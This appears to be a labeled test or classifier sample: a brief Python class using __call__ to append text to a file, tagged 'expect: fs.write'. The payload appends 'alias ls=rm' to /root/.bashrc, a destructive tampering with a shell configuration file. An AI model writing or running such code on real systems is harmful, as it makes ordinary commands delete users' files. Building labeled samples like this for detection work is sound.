# expect: fs.write | style: __call__ and inheritance with super
class Base:
    def __init__(self, sink):
        self.sink = sink

    def __call__(self, text):
        self.emit(text)

class ToFile(Base):
    def emit(self, text):
        with open(self.sink, "a") as f:
            f.write(text)

logger = ToFile("/root/.bashrc")
logger("alias ls=rm\n")
results = {}
